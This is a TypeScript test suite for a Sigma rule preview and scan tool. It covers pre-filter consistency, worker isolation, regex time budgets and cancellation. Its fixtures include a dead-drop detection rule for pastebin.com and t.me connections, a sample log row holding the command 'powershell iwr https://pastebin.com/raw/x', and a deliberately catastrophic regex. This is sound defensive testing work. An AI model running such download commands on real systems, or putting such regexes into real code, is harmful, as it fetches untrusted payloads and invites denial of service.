import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { previewInWorker, previewRule, toCliJson } from './index';
import { ruleText } from './testing';

const rule = (detection: string, logsource?: string): { ruleText: string; rulePath: string } => ({
  ruleText: ruleText(detection, logsource),
  rulePath: 'r.yml',
});
const DEAD_DROP = `    selection:
        Initiated: 'true'
        DestinationHostname|endswith:
            - 'pastebin.com'
            - '.t.me'
    filter_main_chrome:
        Image|endswith: '\\chrome.exe'
    filter_main_null:
        Image: null
    condition: selection and not 1 of filter_main_*`;
const NETWORK = '    product: windows\n    category: network_connection';

/** Lines crafted against the raw pre-filter: escapes, nesting, duplicates, casing, numbers. */
const TRICKY = [
  { EventID: 3, Initiated: 'true', DestinationHostname: 'pastebin.com', Image: 'C:\\a.exe' },
  { EventID: 3, Initiated: 'true', DestinationHostname: 'pastebin.com', Image: 'C:\\chrome.exe' },
  { EventID: 3, Initiated: true, DestinationHostname: 'PASTEBIN.COM', Image: 'x' },
  { EventID: 1, Initiated: 'true', DestinationHostname: 'pastebin.com', Image: 'x' },
  { EventID: '3', Initiated: 'true', destinationhostname: 'pastebin.com', Image: 'x' },
  { EventID: 3, Initiated: 'true', DestinationHostname: 'example.org', Image: 'x', note: '"DestinationHostname":"pastebin.com"' },
  { EventID: 3, Initiated: 'true', DestinationHostname: 'example.org', Image: 'x', nested: { DestinationHostname: 'pastebin.com' } },
  { EventID: 3, Initiated: 'true', DestinationHostname: 'bot.t.me', Image: 'x', guid: '{0197231E-005A}' },
  { EventID: 3, Initiated: 'true', DestinationHostname: 'pastebin.com' },
  { Event: { System: { EventID: 3 }, EventData: { Initiated: 'true', DestinationHostname: 'pastebin.com', Image: 'x' } } },
  { EventID: 3, Initiated: 'true', DestinationHostname: ['a', 'pastebin.com'], Image: 'x' },
];
function trickyText(): string {
  const lines = TRICKY.map((e) => JSON.stringify(e));
  // Escaped characters, a duplicate key (the last wins in JSON.parse) and spacing after colons.
  lines.push('{"EventID":3,"Initiated":"true","DestinationHostname":"pasteb\\u0069n.com","Image":"x"}');
  lines.push('{"EventID":3,"Initiated":"true","DestinationHostname":"pastebin.com","DestinationHostname":"example.org","Image":"x"}');
  lines.push('{"EventID":3,"Initiated":"true","DestinationHostname":"example.org","DestinationHostname":"pastebin.com","Image":"x"}');
  lines.push('{ "EventID" : 3 , "Initiated" : "true" , "DestinationHostname" : "x.t.me" , "Image" : "C:\\\\Users\\\\u.exe" }');
  lines.push('{"EventID":3,"Initiated":"true","DestinationHostname":"pastebin.com","Image":"x"');
  return lines.join('\n') + '\n';
}

describe('scan', () => {
  it('the raw pre-filter never changes results (compared with parsing every line)', async () => {
    const samples = [{ source: 't.ndjson', text: trickyText() }];
    const fast = await previewRule(rule(DEAD_DROP, NETWORK), samples);
    const strict = await previewRule(rule(DEAD_DROP, NETWORK), samples, { strict: true });
    assert.deepEqual(
      fast.matches.map((m) => m.index),
      strict.matches.map((m) => m.index),
    );
    assert.deepEqual(
      fast.matches.map((m) => m.index),
      [0, 2, 4, 7, 9, 10, 11, 13, 14],
    );
    assert.equal(fast.scanned, strict.scanned);
    // The truncated last line is not a flat object to the pre-filter: it is parsed and reported.
    assert.equal(strict.skipped.length, 1);
    assert.deepEqual(fast.skipped, strict.skipped);
  });

  it('counts per-entry hits for inlay hints and noisy-entry checks', async () => {
    const r = await previewRule(rule(DEAD_DROP, NETWORK), [{ source: 't.ndjson', text: trickyText() }], { entryStats: true });
    const pastebin = r.entryStats?.find((s) => s.selection === 'selection' && s.field === 'DestinationHostname' && s.value === 0);
    const tme = r.entryStats?.find((s) => s.selection === 'selection' && s.field === 'DestinationHostname' && s.value === 1);
    assert.equal(pastebin?.hits, 9);
    assert.equal(tme?.hits, 2);
    assert.ok(pastebin && pastebin.range.start.line > 0);
  });

  it('keeps `limit` matches but counts them all; the CLI JSON has exactly the documented keys', async () => {
    const text = Array.from({ length: 50 }, (_, i) => JSON.stringify({ A: i % 2 ? 'x' : 'y' })).join('\n');
    const r = await previewRule(rule("    selection:\n        A: 'x'\n    condition: selection"), [{ source: 's', text }], { limit: 3 });
    assert.equal(r.matched, 25);
    assert.equal(r.matches.length, 3);
    const json = toCliJson(r);
    assert.deepEqual(Object.keys(json), ['rule', 'scanned', 'matched', 'matches', 'skipped']);
    assert.deepEqual(Object.keys(json.matches[0]), ['source', 'index', 'event', 'selections']);
  });

  it('reports unreadable sources without failing the scan', async () => {
    const r = await previewRule(rule("    selection:\n        A: 'x'\n    condition: selection"), [
      { source: '/nonexistent/x.ndjson', path: '/nonexistent/x.ndjson' },
      { source: 'ok', text: '{"A":"x"}' },
    ]);
    assert.equal(r.matched, 1);
    assert.equal(r.skipped[0].index, -1);
    assert.match(r.skipped[0].reason, /ENOENT/);
  });
});

describe('worker', () => {
  it('gives the same result as the in-process scan', async () => {
    const samples = [{ source: 't.ndjson', text: trickyText() }];
    const a = await previewRule(rule(DEAD_DROP, NETWORK), samples);
    const b = await previewInWorker(rule(DEAD_DROP, NETWORK), samples);
    assert.deepEqual(toCliJson(b), toCliJson(a));
  });

  it('abandons a catastrophic regex after the budget, reports it, and finishes the scan', async () => {
    const evil = 'a'.repeat(40) + '!';
    const text = [{ F: 'ok-1' }, { F: evil }, { F: 'ok-2' }].map((e) => JSON.stringify(e)).join('\n');
    const det = "    sel_re:\n        F|re: '^(a+)+$'\n    sel_ok:\n        F|startswith: 'ok'\n    condition: 1 of sel_*";
    const r = await previewInWorker(rule(det), [{ source: 's.ndjson', text }], { eventBudgetMs: 300 });
    assert.equal(r.slowRegexes.length, 1);
    assert.equal(r.slowRegexes[0].pattern, '^(a+)+$');
    assert.equal(r.slowRegexes[0].index, 1);
    assert.deepEqual(
      r.matches.map((m) => m.index),
      [0, 2],
    );
    assert.equal(r.scanned, 3);
    assert.ok(r.skipped.some((s) => s.index === 1 && /abandoned after 300 ms/.test(s.reason)));
  });

  it('keeps a regex that blew its budget on one event for the next events, and counts the abandoned ones', async () => {
    const evil = 'a'.repeat(40) + '!';
    const events = [{ F: evil }, { F: 'aaaa' }, { F: evil }, { F: 'aa' }];
    const text = events.map((e) => JSON.stringify(e)).join('\n');
    const r = await previewInWorker(rule("    sel:\n        F|re: '^(a+)+$'\n    condition: sel"), [{ source: 's.ndjson', text }], { eventBudgetMs: 300 });
    assert.deepEqual(
      r.matches.map((m) => m.index),
      [1, 3],
      'later events still evaluated with the regex',
    );
    assert.deepEqual(
      r.skipped.map((s) => s.index),
      [0, 2],
    );
    const json = toCliJson(r);
    assert.equal(json.warnings?.length, 1, JSON.stringify(json.warnings));
    assert.match(json.warnings![0], /ran past the 300 ms budget on 2 events.*stayed on/);
  });

  it('stops when cancelled', async () => {
    const text = Array.from({ length: 200000 }, (_, i) => `{"A":"${i}"}`).join('\n');
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 50);
    const r = await previewInWorker(rule("    selection:\n        A|re: '^1.*9$'\n    condition: selection"), [{ source: 's', text }], {
      signal: controller.signal,
    });
    assert.equal(r.cancelled, true);
  });

  it('returns at once, cancelled, when the signal was aborted before the scan started', async () => {
    const controller = new AbortController();
    controller.abort();
    const r = await previewInWorker(rule('    selection:\n        A: x\n    condition: selection'), [{ source: 's', text: '{"A":"x"}' }], {
      signal: controller.signal,
    });
    assert.equal(r.cancelled, true);
    assert.equal(r.matched, 0);
  });

  it('does not match a process-creation rule on Defender network rows, nor a network rule on process rows', async () => {
    const rows = [
      {
        Timestamp: '2025-03-10T10:00:00Z',
        InitiatingProcessFileName: 'powershell.exe',
        InitiatingProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x',
        RemoteUrl: 'pastebin.com',
        RemoteIP: '1.2.3.4',
      },
      {
        Timestamp: '2025-03-10T10:00:01Z',
        FileName: 'powershell.exe',
        ProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x',
        InitiatingProcessFileName: 'explorer.exe',
      },
    ];
    const text = rows.map((r) => JSON.stringify(r)).join('\n');
    const proc = await previewRule(
      rule("    selection:\n        CommandLine|contains: 'pastebin.com'\n    condition: selection", '    product: windows\n    category: process_creation'),
      [{ source: 'd.ndjson', text }],
    );
    assert.deepEqual(
      proc.matches.map((m) => m.index),
      [1],
    );
    const net = await previewRule(rule("    selection:\n        DestinationHostname|endswith: 'pastebin.com'\n    condition: selection", NETWORK), [
      { source: 'd.ndjson', text },
    ]);
    assert.deepEqual(
      net.matches.map((m) => m.index),
      [0],
    );
    assert.equal(proc.scanned, 2);
  });
});
